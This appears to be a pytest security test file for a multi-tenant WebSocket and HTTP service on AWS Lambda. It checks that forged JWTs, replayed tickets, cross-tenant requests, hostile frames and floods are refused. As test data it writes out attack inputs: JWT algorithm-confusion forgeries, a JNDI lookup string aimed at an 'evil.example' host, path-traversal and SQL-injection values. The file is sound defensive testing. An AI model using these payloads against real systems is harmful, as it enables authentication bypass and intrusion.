"""The known attacks, tried on the functions as they are deployed, over memory adapters and a real issuer.

Each test says what is tried and what the answer is. What API Gateway does before a function is asked
(frames over 32 KB, binary frames, made-up connection ids) is not shown here; what gets past it is.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import importlib
import json
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from hypothesis import given
from hypothesis import strategies as st

from pipeline.core import cursor
from pipeline.core.errors import Unavailable
from pipeline.handlers import invocation
from pipeline.settings import read
from pipeline.wiring import adapters, stories
from tests import issuer
from tests.examples import ENDPOINT, channel, delivery, envelope
from tests.issuer import ISSUER, KEYS, claims, signed

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

    from pipeline.settings import Settings
    from tests.issuer import Site

HANDLERS = ("authorize", "connect", "disconnect", "message", "query", "ticket")


class Context:
    """What Lambda tells a handler of its invocation."""

    def get_remaining_time_in_millis(self) -> int:
        return 30_000


class Stack:
    """The functions that face clients, with fresh adapters; settings by the end of their names."""

    def __init__(self, patch: pytest.MonkeyPatch, jwks_url: str, **given: str) -> None:
        values = {
            "TARGET": "memory",
            "TABLE": uuid4().hex,
            "TENANCY": "required",
            "JWKS_URL": jwks_url,
            "JWT_ISSUER": ISSUER,
            "JWT_ALGORITHMS": "RS256,ES256,EdDSA",
            "ALLOWED_ORIGINS": "https://app.example.com",
            "MANAGEMENT_ENDPOINT": ENDPOINT,
            "WEBSOCKET_URL": "wss://live.example.com/live",
            **given,
        }
        for name, value in values.items():
            patch.setenv(f"LIVEDEX_{name}", value)
        invocation.settings.cache_clear()
        for name in HANDLERS:
            importlib.import_module(f"pipeline.handlers.{name}").story.cache_clear()
        self.settings: Settings = read()
        self.table: Any = adapters.table(self.settings)
        self.sockets: Any = adapters.sockets(self.settings)
        self.store: Any = adapters.store(self.settings)
        self.clock: Any = adapters.clock(self.settings)

    def call(self, name: str, event: dict[str, Any]) -> Any:  # noqa: ANN401 - each handler's own answer
        return importlib.import_module(f"pipeline.handlers.{name}").handler(event, Context())

    def ticket(self, token: str = "", **headers: str) -> dict[str, Any]:
        """``POST /v1/tickets``."""
        sent = {"authorization": f"Bearer {token}"} if token else {}
        answer: dict[str, Any] = self.call("ticket", {"headers": {**sent, **headers}})
        return answer

    def hits(self, token: str = "", headers: Mapping[str, str] | None = None, **query: str) -> dict[str, Any]:
        """``GET /v1/hits``."""
        sent = {"authorization": f"Bearer {token}"} if token else {}
        event = {
            "rawPath": "/v1/hits",
            "headers": {**sent, **(headers or {})},
            "queryStringParameters": query,
        }
        answer: dict[str, Any] = self.call("query", event)
        return answer

    def authorize(self, headers: Mapping[str, str] | None = None, **query: str) -> dict[str, Any] | None:
        """``$connect``, the authorizer's half: the context of who was let in, or None."""
        arn = "arn:aws:execute-api:eu-west-1:123456789012:a1b2c3d4e5/live/$connect"
        event = {"methodArn": arn, "headers": dict(headers or {}), "queryStringParameters": query}
        policy = self.call("authorize", event)
        allowed = policy["policyDocument"]["Statement"][0]["Effect"] == "Allow"
        context: dict[str, Any] = policy["context"]
        return context if allowed else None

    def connect(self, name: str, token: str = "", **headers: str) -> int:
        """Open a WebSocket; the status of the answer."""
        sent = {"authorization": f"Bearer {token}"} if token else {}
        context = self.authorize({**sent, **headers})
        if context is None:
            return 403
        request = {"connectionId": name, "authorizer": context}
        status: int = self.call("connect", {"headers": {}, "requestContext": request})["statusCode"]
        if status == 200:
            self.sockets.open(name, ENDPOINT)
        return status

    def say(self, name: str, frame: object) -> list[dict[str, Any]]:
        """Send a frame on a connection; what it was answered."""
        before = len(self.sockets.frames(name, ENDPOINT))
        body = frame if isinstance(frame, str) else json.dumps(frame)
        self.call("message", {"requestContext": {"connectionId": name}, "body": body})
        return [json.loads(each) for each in self.sockets.frames(name, ENDPOINT)[before:]]

    def subscribe(self, name: str, asked: object, **more: object) -> list[dict[str, Any]]:
        return self.say(name, {"type": "subscribe", "id": "1", "filter": asked, "snapshot": 10, **more})

    def put(self, *events: dict[str, Any]) -> None:
        """Events, through the index function's story."""
        index = stories.indexing(self.settings)
        index([delivery(each) for each in events], deadline=self.clock.now() + 1_000)

    def frames(self, name: str) -> list[dict[str, Any]]:
        return [json.loads(each) for each in self.sockets.frames(name, ENDPOINT)]


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with issuer.site() as found:
        yield found


@pytest.fixture(scope="module")
def attacker() -> Iterator[Site]:
    """The attacker's own site, with a key set of his own."""
    with issuer.site() as found:
        found.body = issuer.published("other")
        yield found


@pytest.fixture
def stack(site: Site, monkeypatch: pytest.MonkeyPatch) -> Iterator[Stack]:
    yield Stack(monkeypatch, site.url)
    invocation.settings.cache_clear()


def codes(frames: list[dict[str, Any]]) -> list[str]:
    return [frame.get("code", frame["type"]) for frame in frames]


def code(answer: dict[str, Any]) -> str:
    text: str = json.loads(answer["body"])["error"]["code"]
    return text


# --- forged tokens ----------------------------------------------------------------------------


def part(value: object) -> str:
    text = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.urlsafe_b64encode(text).rstrip(b"=").decode()


def forged(header: dict[str, Any], key: bytes | None, **more: Any) -> str:  # noqa: ANN401 - JSON values
    """A token that is signed by HMAC with a key that the attacker has, or not at all."""
    body = f"{part(header)}.{part(claims(**more))}"
    return f"{body}.{part(hmac.new(key, body.encode(), hashlib.sha256).digest()) if key is not None else ''}"


PUBLIC = KEYS["rsa"][1].public_key()
PEM = PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
DER = PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
HS = {"alg": "HS256", "kid": "rsa"}

FORGED = {
    "alg none": forged({"alg": "none", "kid": "rsa"}, None),
    "alg none, in other letters": forged({"alg": "nOnE", "kid": "rsa"}, None),
    "alg none, but with a signature": forged({"alg": "none", "kid": "rsa"}, b"x"),
    "no alg": forged({"kid": "rsa"}, None),
    "alg is a list": forged({"alg": ["RS256"], "kid": "rsa"}, b"x"),
    "signature cut off": signed().rpartition(".")[0] + ".",
    "signature of another token": signed(sub="eve").rpartition(".")[0] + "." + signed().rpartition(".")[2],
    "HS256 with the public key as PEM": forged(HS, PEM),
    "HS256 with the public key as DER": forged(HS, DER),
    "HS256 with the public key as JWK": forged(HS, json.dumps(issuer.jwk("rsa")).encode()),
    "HS256 with the modulus": forged(HS, issuer.jwk("rsa")["n"].encode()),
    "HS256 with an empty key": forged(HS, b""),
    "RS256 claimed, HMAC in it": forged({"alg": "RS256", "kid": "rsa"}, PEM),
    "another key under a published kid": signed("other", {"kid": "rsa"}),
    "a key nobody published": signed("other"),
    "an RSA signature under the kid of an EC key": signed("rsa", {"kid": "ec"}),
    "kid as a path": forged({"alg": "HS256", "kid": "../../../../dev/null"}, b""),
    "kid as a path, RS256": signed("other", {"kid": "../../etc/passwd"}),
    "kid as SQL": signed("other", {"kid": "x' UNION SELECT 'key' --"}),
    "kid as a template": signed("other", {"kid": "${jndi:ldap://evil.example/a}"}),
    "kid with zero bytes": signed("other", {"kid": "rsa\0"}),
    "kid missing": signed("other", {"kid": ""}),
    "kid as an object": forged({"alg": "RS256", "kid": {"rsa": 1}}, b"x"),
    "unknown crit": signed("rsa", {"crit": ["exp-ignored"], "exp-ignored": True}),
    "payload not encoded (b64)": forged({"alg": "RS256", "kid": "rsa", "b64": False, "crit": ["b64"]}, b"x"),
    "header nested deep": part(b'{"alg":"RS256","x":' + b"[" * 3_000) + ".e30.c2ln",
    "header with a huge number": part(b'{"alg":"RS256","x":' + b"9" * 5_000 + b"}") + ".e30.c2ln",
    "too long": forged({"alg": "RS256", "kid": "rsa", "x": "x" * 9_000}, b"x"),
    "no JWT": "a.b.c",
    "not ASCII": "é.é.é",
}

EXPIRED = {
    "expired": signed(exp=1_700_000_000),
    "expired an hour before 1970": signed(exp=-3_600),
    "exp is a text": signed(exp="4102444800"),
    "exp beyond all years": signed(exp=1e300),
    "not yet valid": signed(nbf=issuer.FAR - 1),
    "issued in the future": signed(iat=issuer.FAR - 1),
    "for another audience": signed(aud="somebody-else"),
    "for an audience that begins like ours": signed(aud="livedex2"),
    "audience is an object": signed(aud={"livedex": True}),
    "from another issuer": signed(iss="https://evil.example.com/"),
    "from an issuer that begins like ours": signed(iss=ISSUER + "x"),
    "from several issuers": signed(iss=[ISSUER]),
    **{f"no {name}": signed(**{name: None}) for name in ("exp", "iss", "aud", "sub", "tenant")},
    "tenant is a list": signed(tenant=["acme", "globex"]),
    "tenant is empty": signed(tenant=" "),
    "tenant with a line's end": signed(tenant="acme\nglobex"),
    "tenant with half a character": signed(tenant="\ud800"),
    "subject too long": signed(sub="x" * 300),
}


@pytest.mark.parametrize("token", (FORGED | EXPIRED).values(), ids=(FORGED | EXPIRED).keys())
def test_a_token_that_does_not_hold_opens_no_door(stack: Stack, token: str) -> None:
    """Tried at each of the three doors: 401 with a code over HTTP, a denied handshake at the WebSocket."""
    answers = [stack.ticket(token), stack.hits(token)]

    assert [(answer["statusCode"], code(answer)) for answer in answers] == [(401, "unauthorized")] * 2
    assert stack.authorize({"authorization": f"Bearer {token}"}) is None
    assert stack.authorize({"sec-websocket-protocol": f"livedex, {token}"}) is None


def test_a_good_token_opens_every_door_so_that_the_test_above_means_something(stack: Stack) -> None:
    assert [stack.ticket(signed())["statusCode"], stack.hits(signed())["statusCode"]] == [201, 200]
    for header in (
        {"authorization": f"Bearer {signed()}"},
        {"sec-websocket-protocol": f"livedex, {signed()}"},
    ):
        assert stack.authorize(header) == {"tenant": "acme", "subject": "ann", "expires": "4102444800000"}


@pytest.mark.parametrize("header", ["jku", "x5u", "kid", "iss"])
def test_a_token_that_brings_the_address_of_its_key_is_refused_and_nobody_goes_there(
    stack: Stack, attacker: Site, header: str
) -> None:
    token = signed("other", {header: attacker.url})

    assert stack.ticket(token)["statusCode"] == 401
    assert attacker.asked == []


def test_a_token_that_brings_its_own_key_is_refused(stack: Stack) -> None:
    assert stack.ticket(signed("other", {"jwk": issuer.jwk("other")}))["statusCode"] == 401
    assert stack.ticket(signed("other", {"kid": "rsa", "jwk": issuer.jwk("other")}))["statusCode"] == 401


def test_a_token_of_a_local_run_opens_nothing_where_an_issuer_is_configured(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = "a development secret of 32 bytes or more"  # noqa: S105 - no secret of anything
    stack = Stack(monkeypatch, site.url, DEVELOPMENT_SECRET=secret)

    assert stack.ticket(forged({"alg": "HS256"}, secret.encode()))["statusCode"] == 401
    assert stack.ticket(forged(HS, secret.encode()))["statusCode"] == 401


def test_a_flood_of_made_up_kids_asks_the_issuer_once_and_disturbs_nobody(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    stack = Stack(monkeypatch, site.url + "?flood")
    before = len(site.asked)

    answers = {stack.ticket(signed("other", {"kid": str(each)}))["statusCode"] for each in range(200)}

    assert answers == {401}
    assert len(site.asked) - before == 1
    assert stack.ticket(signed())["statusCode"] == 201


def test_an_issuer_that_is_down_is_no_fault_of_the_token(monkeypatch: pytest.MonkeyPatch) -> None:
    """503 over HTTP, so that clients come again; at the WebSocket the function fails, which is a 500."""
    stack = Stack(monkeypatch, "http://127.0.0.1:1/jwks.json")

    answers = [stack.ticket(signed()), stack.hits(signed())]

    assert [(answer["statusCode"], code(answer)) for answer in answers] == [(503, "unavailable")] * 2
    with pytest.raises(Unavailable):
        stack.authorize({"authorization": f"Bearer {signed()}"})


def test_a_table_that_is_down_is_no_fault_of_the_client(
    stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    def down(*_: object) -> None:
        raise Unavailable("DynamoDB", "not now")

    monkeypatch.setattr(stack.table, "connections", down)

    assert stack.ticket(signed())["statusCode"] == 503
    assert stack.connect("ann", signed()) == 503
    assert stack.table.connection("ann") is None


# --- pages of other sites ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "origin",
    [
        "https://evil.example.com",
        "http://app.example.com",
        "https://app.example.com.evil.example",
        "https://app.example.com:8443",
        "https://app.example.com@evil.example",
        "https://evil.example/https://app.example.com",
        "null",
        "*",
    ],
)
def test_a_page_of_another_site_opens_no_socket_though_it_has_a_good_token(stack: Stack, origin: str) -> None:
    header = {"authorization": f"Bearer {signed()}", "Origin": origin}

    assert stack.authorize(header) is None
    assert stack.authorize({**header, "Origin": "https://app.example.com"}) is not None


# --- tickets ----------------------------------------------------------------------------------


def ticket(stack: Stack, **more: Any) -> str:  # noqa: ANN401 - JSON values
    text: str = json.loads(stack.ticket(signed(**more))["body"])["ticket"]
    return text


def test_a_ticket_used_again_is_refused(stack: Stack) -> None:
    bought = ticket(stack)

    assert stack.authorize(ticket=bought) is not None
    assert stack.authorize(ticket=bought) is None


def test_of_many_that_use_a_ticket_at_the_same_moment_exactly_one_gets_in(stack: Stack) -> None:
    with ThreadPoolExecutor(16) as threads:
        for _ in range(20):
            bought = ticket(stack)
            let_in = list(threads.map(lambda _, bought=bought: stack.authorize(ticket=bought), range(16)))
            assert sum(each is not None for each in let_in) == 1


def test_a_ticket_of_thirty_seconds_ago_is_refused(stack: Stack) -> None:
    early, late = ticket(stack), ticket(stack)
    stack.clock.sleep(29.999)
    assert stack.authorize(ticket=early) is not None
    stack.clock.sleep(0.001)
    assert stack.authorize(ticket=late) is None


@pytest.mark.parametrize("guess", ["", "x", "\0", "é" * 3_000, "' OR 1=1", "TICKET#", "\ud800"])
def test_a_guessed_ticket_is_refused(stack: Stack, guess: str) -> None:
    bought = ticket(stack)

    assert stack.authorize(ticket=guess) is None
    assert stack.authorize(ticket=bought.upper()) is None
    assert stack.authorize(ticket=hashlib.sha256(bought.encode()).hexdigest()) is None  # what the table has


def test_a_ticket_is_for_one_socket_and_for_nothing_else(stack: Stack) -> None:
    bought = ticket(stack)

    assert stack.hits(bought)["statusCode"] == stack.ticket(bought)["statusCode"] == 401
    assert stack.hits(headers={"x-api-key": bought})["statusCode"] == 401
    assert stack.hits(ticket=bought)["statusCode"] == 401


def test_a_ticket_opens_its_own_tenant_whatever_stands_beside_it(stack: Stack) -> None:
    bought = ticket(stack, tenant="globex")
    header = {"authorization": f"Bearer {signed()}", "x-tenant": "acme", "tenant": "acme"}

    let_in = stack.authorize(header, ticket=bought, tenant="acme", subject="root")

    assert let_in is not None
    assert (let_in["tenant"], let_in["subject"]) == ("globex", "ann")


# --- other people's connections ---------------------------------------------------------------


@pytest.fixture
def two(stack: Stack) -> Stack:
    """Ann of acme is subscribed; Mallory of globex is connected."""
    stack.connect("ann", signed())
    stack.connect("mallory", signed(tenant="globex", sub="mallory"))
    stack.put(envelope("ours", amount=1), envelope("theirs", tenant="globex", amount=2))
    stack.subscribe("ann", {"service": ["payments"]})
    return stack


def ids(answer: dict[str, Any]) -> list[str]:
    return [hit["id"] for hit in json.loads(answer["body"])["hits"]]


def amounts(answer: dict[str, Any]) -> list[int]:
    return [hit["excerpt"]["amount"] for hit in json.loads(answer["body"])["hits"]]


def test_a_frame_acts_on_the_connection_it_came_by_whatever_it_says(two: Stack) -> None:
    before = two.frames("ann")
    stolen = {
        "connectionId": "ann",
        "connection": "ann",
        "requestContext": {"connectionId": "ann", "authorizer": {"tenant": "acme"}},
        "tenant": "acme",
        "principal": {"tenant": "acme"},
    }

    frames = two.subscribe("mallory", {}, **stolen)
    two.say(
        "mallory",
        {"type": "unsubscribe", "id": "2", "channel": two.table.subscriptions("ann")[0].id, **stolen},
    )

    hits = [hit for frame in frames for hit in frame.get("hits", ())]
    assert [hit["excerpt"]["amount"] for hit in hits] == [2]
    assert [each.tenant for each in two.table.subscriptions("mallory")] == ["globex"]
    assert [each.tenant for each in two.table.subscriptions("ann")] == ["acme"]
    assert two.frames("ann") == before


def test_an_id_that_no_connection_has_gets_a_bye_and_nothing_else(two: Stack) -> None:
    two.sockets.open("nobody", ENDPOINT)
    posted = posts(two)

    two.call(
        "message",
        {"requestContext": {"connectionId": "nobody"}, "body": '{"type":"subscribe","id":"1","filter":{}}'},
    )

    assert two.table.subscriptions("nobody") == []
    assert codes(posted) == ["bye"]
    assert two.frames("nobody") == []  # it was closed


def test_a_frame_that_names_the_route_of_connecting_or_leaving_does_neither(two: Stack) -> None:
    """``{"type":"$disconnect"}`` chooses that route where API Gateway lets it; the function knows a frame."""
    request = {
        "connectionId": "ann",
        "eventType": "MESSAGE",
        "authorizer": {"tenant": "acme", "subject": "ann", "expires": "4102444800000"},
    }

    two.call("disconnect", {"requestContext": request, "body": '{"type":"$disconnect"}'})
    two.call("connect", {"requestContext": {**request, "connectionId": "made-up"}, "headers": {}})

    assert two.table.connection("ann") is not None
    assert two.table.connection("made-up") is None


def test_another_tenants_channel_cannot_be_left_joined_or_read_by_its_id(two: Stack) -> None:
    theirs = two.table.subscriptions("ann")[0]

    answer = two.say("mallory", {"type": "unsubscribe", "id": "1", "channel": theirs.id})
    joined = two.subscribe("mallory", json.loads(theirs.filter))

    assert answer == []
    assert [member.connection_id for member in two.table.members(theirs, two.clock.now())] == ["ann"]
    assert joined[0]["channel"] != theirs.id  # the same filter is another channel in another tenant


def test_another_tenants_cursor_is_worth_nothing(two: Stack) -> None:
    theirs = two.table.subscriptions("ann")[0]
    stolen = cursor.live(theirs.id, two.clock.now() - 60_000)

    frames = two.subscribe("mallory", json.loads(theirs.filter), cursor=stolen)
    page = two.hits(signed(tenant="globex"), filter=theirs.filter, cursor=stolen)

    assert "gap" in codes(frames)
    assert (page["statusCode"], code(page)) == (400, "bad-cursor")


@pytest.mark.parametrize(
    "asked", [{"tenant": ["acme"]}, {"$or": [{"tenant": ["acme"]}, {"family": ["metrics"]}]}]
)
def test_a_filter_cannot_name_a_tenant(two: Stack, asked: dict[str, Any]) -> None:
    assert codes(two.subscribe("mallory", asked)) == ["bad-filter"]
    answer = two.hits(signed(tenant="globex"), filter=json.dumps(asked))
    assert (answer["statusCode"], code(answer)) == (400, "bad-filter")


@pytest.mark.parametrize("asked", ["{}", '{"service":["payments"]}', '{"service":[{"anything-but":["x"]}]}'])
def test_no_filter_reads_another_tenants_documents(two: Stack, asked: str) -> None:
    ours = two.hits(signed(), filter=asked, tenant="globex")
    theirs = two.hits(signed(tenant="globex"), filter=asked, tenant="acme")

    assert (amounts(ours), amounts(theirs)) == ([1], [2])


def test_a_documents_id_is_no_way_to_another_tenants_document(two: Stack) -> None:
    (ours,) = ids(two.hits(signed()))

    assert ids(two.hits(signed(), id=ours)) == [ours]
    assert ids(two.hits(signed(tenant="globex"), id=ours)) == []


@pytest.mark.parametrize("name", ["x-tenant", "tenant", "x-amzn-oidc-identity", "x-forwarded-user"])
def test_a_header_cannot_name_a_tenant(two: Stack, name: str) -> None:
    assert amounts(two.hits(signed(), {name: "globex"})) == [1]


# --- who was let in and may not stay ----------------------------------------------------------


def test_a_socket_does_not_outlive_its_token(stack: Stack) -> None:
    """The first frame after the token has ended is not answered: the socket is closed, its rows are gone."""
    stack.connect("ann", signed())
    ann = stack.table.connection("ann")
    stack.table.connect(type(ann)("ann", ENDPOINT, type(ann.principal)("acme", "ann", stack.clock.now() + 1)))
    stack.subscribe("ann", {})
    stack.clock.sleep(0.001)
    posted = posts(stack)

    stack.subscribe("ann", {"service": ["x"]})

    assert codes(posted) == ["bye"]
    assert posted[0]["reason"] == "expired"
    assert stack.table.connection("ann") is None
    assert stack.table.members(channel({}), stack.clock.now()) == []


def test_a_key_revoked_while_its_socket_subscribes_leaves_it_in_no_channel(stack: Stack) -> None:
    """It had been recognised, and dismissed by the revocation, before its membership was written."""
    text, key = stories.creating_keys(stack.settings)("acme", "reporter", 1)
    stack.connect("program", **{"x-api-key": text})
    posted, join = posts(stack), stack.table.join

    def revoke_and_join(*asked: Any) -> None:  # noqa: ANN401 - a connection and a channel
        stack.table.revoke_key(key.hash, stack.clock.now())
        stack.table.disconnect("program")  # and it could not be closed
        join(*asked)

    stack.table.join = revoke_and_join
    stack.subscribe("program", {})

    assert [(frame["type"], frame["reason"]) for frame in posted] == [("bye", "revoked")]
    assert stack.table.members(channel({}), stack.clock.now()) == []


def test_a_socket_does_not_outlive_its_key(stack: Stack) -> None:
    text, key = stories.creating_keys(stack.settings)("acme", "reporter", 1)
    stack.connect("program", **{"x-api-key": text})
    stack.table.revoke_key(key.hash, stack.clock.now())  # as by a process that died before it closed any
    posted = posts(stack)

    stack.subscribe("program", {})

    assert [(frame["type"], frame["reason"]) for frame in posted] == [("bye", "revoked")]
    assert stack.table.connection("program") is None
    assert stack.connect("again", **{"x-api-key": text}) == 403
    assert stack.hits(headers={"x-api-key": text})["statusCode"] == 401


def posts(stack: Stack) -> list[dict[str, Any]]:
    """What is posted from here on, also on connections that are closed then."""
    posted: list[dict[str, Any]] = []
    post = stack.sockets.post

    def listen(given: Any, deadline: int) -> Any:  # noqa: ANN401 - as memory's own
        posted.extend(json.loads(each.frame) for each in given)
        return post(given, deadline)

    stack.sockets.post = listen
    return posted


# --- hostile frames ---------------------------------------------------------------------------

SUBSCRIBE = '{"type":"subscribe","id":"1","snapshot":0,"filter":%s}'

HOSTILE = {
    "nothing": "",
    "binary junk": "\x00\xff\xfe\x01",
    "half a character": "\ud800",
    "no JSON": "{",
    "not an object": "[1]",
    "null": "null",
    "too long": '{"type":"ping","x":"' + "x" * 32_768 + '"}',
    "far too long": "x" * 131_072,
    "arrays nested deep": "[" * 30_000,
    "objects nested deep": '{"a":' * 6_000,
    "filter nested deep": SUBSCRIBE % ('{"$or":[' * 3_000),
    "filter nested deep and whole": SUBSCRIBE % ('{"$or":[' * 900 + "{}" + "]}" * 900),
    "value nested deep": SUBSCRIBE % ('{"service":' + "[" * 900 + "]" * 900 + "}"),
    "half a character in an id": '{"type":"subscribe","id":"\\ud800","filter":{}}',
    "half a character in a filter": SUBSCRIBE % '{"service":["\\ud800"]}',
    "half a character in a key": SUBSCRIBE % '{"\\udfff":["x"]}',
    "number without end": SUBSCRIBE % '{"latencyMs":[{"numeric":[">",1e999]}]}',
    "number of 5,000 digits": SUBSCRIBE % ('{"latencyMs":[' + "9" * 5_000 + "]}"),
    "not a number": SUBSCRIBE % '{"latencyMs":[NaN]}',
    "an id that is a number": '{"type":"subscribe","id":1,"filter":{}}',
    "an id too long": '{"type":"subscribe","id":"' + "x" * 65 + '","filter":{}}',
    "a type that is an object": '{"type":{},"id":"1"}',
    "a type of Python's": '{"type":"__class__","id":"1"}',
    "a filter that is a list": SUBSCRIBE % "[]",
    "a filter too long": SUBSCRIBE % json.dumps({"service": ["x" * 100 + str(each) for each in range(200)]}),
    "an unknown operator": SUBSCRIBE % '{"service":[{"script":"1+1"}]}',
    "an unknown key": SUBSCRIBE % '{"_source":["x"]}',
    "a cursor that is a number": '{"type":"subscribe","id":"1","filter":{},"cursor":1}',
    "a cursor too long": '{"type":"subscribe","id":"1","filter":{},"cursor":"' + "x" * 2_000 + '"}',
    "a snapshot of all there is": '{"type":"subscribe","id":"1","filter":{},"snapshot":1000000000000}',
    "a snapshot below nothing": '{"type":"subscribe","id":"1","filter":{},"snapshot":-1}',
    "a channel that is a path": '{"type":"unsubscribe","id":"1","channel":"../../x"}',
    "a channel of another table's key": '{"type":"unsubscribe","id":"1","channel":"CHAN#acme#0"}',
}


@pytest.mark.parametrize("frame", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_frame_gets_one_error_and_the_connection_goes_on(stack: Stack, frame: str) -> None:
    stack.connect("ann", signed())

    answer = stack.say("ann", frame)

    assert [each["type"] for each in answer] == ["error"]
    assert answer[0]["code"] in {"bad-frame", "bad-filter", "unknown-type"}
    assert len(json.dumps(answer[0])) < 4_000
    assert stack.table.subscriptions("ann") == []
    assert codes(stack.say("ann", {"type": "ping"})) == ["pong"]


def test_a_wildcard_made_to_backtrack_for_ever_does_not(stack: Stack) -> None:
    """A regular expression of this form would take longer than the universe is old; one pass is enough."""
    stack.connect("ann", signed())
    stack.put(envelope("long", service="a" * 30_000))

    frames = stack.subscribe("ann", {"service": [{"wildcard": "*a" * 900 + "*b"}]})

    assert codes(frames) == ["subscribed", "live"]


def test_of_two_keys_of_one_name_the_last_counts_for_every_check(stack: Stack) -> None:
    """One parser reads the frame, once: there is no second one that could see another filter."""
    stack.connect("ann", signed())
    twice = '{"type":"ping","type":"subscribe","id":"1","filter":{"tenant":["x"]},"filter":{"service":["a"]}}'

    frames = stack.say("ann", twice)

    assert codes(frames)[0] == "subscribed"
    assert [each.filter for each in stack.table.subscriptions("ann")] == ['{"service":["a"]}']


def test_a_cursor_that_is_made_up_is_answered_by_a_gap(stack: Stack) -> None:
    stack.connect("ann", signed())
    for made_up in ("x", "\0", "0" * 1_000, cursor.live("0" * 32, 10**15), "1.é.2"):
        assert "gap" in codes(stack.subscribe("ann", {}, cursor=made_up))


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=8,
)
FRAMES = st.fixed_dictionaries(
    {"type": st.sampled_from(["subscribe", "unsubscribe", "ping", "more"]) | JSON},
    optional=dict.fromkeys(("id", "filter", "cursor", "snapshot", "channel", "conflate"), JSON),
)


def test_whatever_a_frame_is_made_of_it_is_answered_in_the_protocols_words(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    stack = Stack(monkeypatch, site.url, SUBSCRIBES_PER_SECOND="99999", MAX_SUBSCRIPTIONS="9999")
    stack.connect("ann", signed())
    known = {"subscribed", "hits", "live", "gap", "pong", "error"}

    @given(frame=FRAMES | JSON)
    def is_answered(frame: object) -> None:
        assert {each["type"] for each in stack.say("ann", frame)} <= known
        assert stack.table.connection("ann") is not None

    is_answered()


QUERIES = {
    "limit": ["0", "-1", "1e3", "9" * 400, "٣", "", "null"],
    "filter": ["{", "[]", "null", '"', "[" * 5_000, '{"x":["y"]}', '{"service":["\\ud800"]}', "\ud800"],
    "cursor": ["x", "\0", "\ud800", "0" * 5_000],
    "id": ["x", "0" * 63, "A" * 64, "*", "../_search", "\ud800"],
}


@pytest.mark.parametrize(("name", "value"), [(name, value) for name in QUERIES for value in QUERIES[name]])
def test_a_hostile_query_is_answered_with_400_and_a_code(stack: Stack, name: str, value: str) -> None:
    answer = stack.hits(signed(), **{name: value})
    if value:
        assert answer["statusCode"] == 400
        assert code(answer) in {"bad-query", "bad-filter", "bad-cursor"}
    else:
        assert answer["statusCode"] == 200  # as if it had been left out


# --- floods -----------------------------------------------------------------------------------


def test_a_flood_of_subscribes_is_answered_up_to_the_rate_and_then_its_connection_is_closed(
    stack: Stack,
) -> None:
    """100 are answered, 198 are told to wait, ten seconds' worth, and the next is the last."""
    stack.connect("mallory", signed())
    stack.connect("bob", signed(tenant="globex"))
    posted = posts(stack)

    for each in range(1_000):
        stack.subscribe("mallory", {"service": [str(each % 50)]})

    answers = [code for code in codes(posted) if code not in {"live", "hits"}]
    assert answers[:100] == ["subscribed"] * 100
    assert answers[100:298] == ["too-many-requests"] * 198
    assert next(frame["reason"] for frame in posted if frame["type"] == "bye") == "flooding"
    assert set(answers[298:]) == {"bye"}
    assert stack.table.connection("mallory") is None
    assert codes(stack.subscribe("bob", {})) == ["subscribed", "live"]


def test_a_client_that_waits_as_it_was_told_is_served_again(stack: Stack) -> None:
    stack.connect("ann", signed())
    for _ in range(110):
        stack.say("ann", {"type": "ping"})
    (told,) = stack.say("ann", {"type": "ping"})
    assert (told["code"], "try again in 1 s" in told["text"]) == ("too-many-requests", True)

    stack.clock.sleep(1)

    assert codes(stack.say("ann", {"type": "ping"})) == ["pong"]


def test_a_tenant_that_floods_from_many_connections_does_not_take_the_others_share(stack: Stack) -> None:
    for number in range(10):
        stack.connect(f"mallory-{number}", signed())
    stack.connect("bob", signed(tenant="globex"))

    answers = [codes(stack.subscribe(f"mallory-{number}", {}))[0] for _ in range(60) for number in range(10)]

    assert answers.count("subscribed") == 400  # 20 seconds' worth
    assert answers[-1] == "too-many-requests"
    assert codes(stack.subscribe("bob", {})) == ["subscribed", "live"]


def test_more_filters_than_a_connection_may_have_are_refused_and_the_others_stay(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    stack = Stack(monkeypatch, site.url, MAX_SUBSCRIPTIONS="3", SUBSCRIBES_PER_SECOND="100")
    stack.connect("ann", signed())
    stack.clock.sleep(1)

    answers = []
    for each in range(5):
        answers.append(codes(stack.subscribe("ann", {"service": [str(each)]}))[0])
        stack.clock.sleep(1)

    assert answers == ["subscribed"] * 3 + ["too-many-subscriptions"] * 2
    assert len(stack.table.subscriptions("ann")) == 3
    assert codes(stack.subscribe("ann", {"service": ["0"]}))[0] == "subscribed"


def test_more_filters_than_a_tenant_may_have_are_refused_and_its_own_can_be_joined(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    stack = Stack(monkeypatch, site.url, MAX_CHANNELS="3")
    stack.connect("ann", signed())
    stack.connect("bob", signed(sub="bob"))
    stack.connect("eve", signed(tenant="globex"))

    answers = [codes(stack.subscribe("ann", {"service": [str(each)]}))[0] for each in range(5)]

    assert answers == ["subscribed"] * 3 + ["too-many-channels"] * 2
    assert codes(stack.subscribe("bob", {"service": ["2"]}))[0] == "subscribed"
    assert codes(stack.subscribe("eve", {"service": ["4"]}))[0] == "subscribed"


def test_more_connections_than_a_tenant_may_have_are_told_429_at_both_doors(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    stack = Stack(monkeypatch, site.url, MAX_CONNECTIONS="3")

    answers = [stack.connect(str(each), signed()) for each in range(5)]
    refused = stack.ticket(signed())

    assert answers == [200, 200, 200, 429, 429]
    assert (refused["statusCode"], code(refused)) == (429, "too-many-connections")
